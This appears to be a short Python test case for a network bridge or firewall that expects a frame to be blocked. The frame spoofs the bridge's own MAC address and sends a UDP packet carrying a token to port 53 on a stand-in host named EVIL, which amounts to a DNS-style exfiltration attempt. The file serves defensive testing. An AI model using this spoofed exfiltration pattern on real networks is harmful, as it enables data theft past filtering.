"""
how: from the bridge's own MAC address
expect: shut
"""

from frames import by, gateway, ipv4, udp_part
from land import BRIDGE_MAC, EVIL


def attempt(token):
    return by(gateway(), ipv4(EVIL, 17, udp_part(EVIL, 53, token)), source=BRIDGE_MAC, times=1)
